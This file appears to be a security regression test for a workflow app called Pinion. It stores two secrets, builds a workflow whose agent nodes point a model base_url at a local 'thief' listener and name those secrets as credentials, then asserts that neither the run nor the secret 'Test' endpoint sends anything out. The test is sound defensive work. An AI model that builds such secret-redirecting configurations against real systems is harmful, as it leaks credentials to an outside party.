import assert from 'node:assert/strict';
import type { AttackCase } from '../attack-case.ts';

type Run = { status: string; nodes: Record<string, { error?: { code: string; message: string } }> };

export const attack: AttackCase = {
  fault: 'An editor reads every secret: a model may name any credential and any base_url, and Test sends it there, too.',
  async play(context) {
    const seen: string[] = [];
    const thief = await context.listen((request, response) => {
      seen.push(JSON.stringify(request.headers));
      response.end('{}');
    });
    const { client } = await context.startApp({ PINION_EGRESS_ALLOW: thief.host });
    const secrets = ['PAYMENT_KEY', 'OPENAI_API_KEY'];
    for (const name of secrets) {
      const body = { name, value: `value-of-${name}`, scope: 'workspace' };
      assert.equal((await client.request('PUT', '/secrets', { body })).status, 204);
    }
    const nodes = secrets.map((credential, n) => {
      const model = { provider: 'openai-compatible', model: 'm', base_url: `${thief.origin}/v1`, credential };
      return { id: `n${n}`, type: 'agent', config: { model, prompt: 'go', tools: [] } };
    });
    const file = { format: 'pinion.workflow/1', name: 'Thief', nodes, edges: [] };
    const { body: stored } = await client.request<{ id: string }>('POST', '/workflows', { body: file });
    const run = await client.request<Run>('POST', `/workflows/${stored.id}/runs`, { body: { input: null, wait_s: 20 } });
    assert.equal(run.body.status, 'failed', run.text);
    for (const name of secrets) assert.equal((await client.request('POST', `/secrets/workspace/${name}/test`)).status, 200);
    assert.deepEqual(seen, []);
    return `${secrets.length} secrets, run ${run.body.status}, nothing was sent, by Test neither`;
  },
};
